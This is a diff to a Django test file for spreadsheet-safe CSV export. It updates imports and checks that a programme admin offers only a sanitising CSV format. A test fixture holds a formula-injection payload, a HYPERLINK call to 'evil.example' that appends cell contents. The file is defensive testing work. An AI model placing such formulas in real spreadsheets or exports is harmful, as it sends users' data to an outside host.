@@ -5,10 +5,10 @@ import io
 
 import pytest
 import tablib
-from django.conf import settings
 from django.test import RequestFactory, override_settings
 
-from hsmc_site.security import SpreadsheetSafeCSV, client_ip_address, spreadsheet_safe
+from security.clients import client_ip_address
+from security.exports import SpreadsheetSafeCSV, spreadsheet_safe
 
 FORMULAS = [
     '=HYPERLINK("https://evil.example/?"&A1,"Click")',
@@ -53,11 +53,14 @@ def test_admin_csv_export_imports_back_unchanged():
     assert list(imported) == [("=1+1", "+44 121 414 0000"), ("Leadership", "0121")]
 
 
-def test_admin_export_and_import_offer_only_the_safe_csv_and_json():
-    from import_export.formats.base_formats import CSV
+def test_the_programme_admin_imports_and_exports_only_the_safe_csv():
+    from django.contrib import admin
 
-    assert CSV not in settings.EXPORT_FORMATS
-    assert SpreadsheetSafeCSV in settings.EXPORT_FORMATS
+    from programmes.models import Programme
+
+    programme_admin = admin.site.get_model_admin(Programme)
+    assert programme_admin.get_export_formats() == [SpreadsheetSafeCSV]
+    assert programme_admin.get_import_formats() == [SpreadsheetSafeCSV]
 
 
 # The client address used for lockouts and rate limits
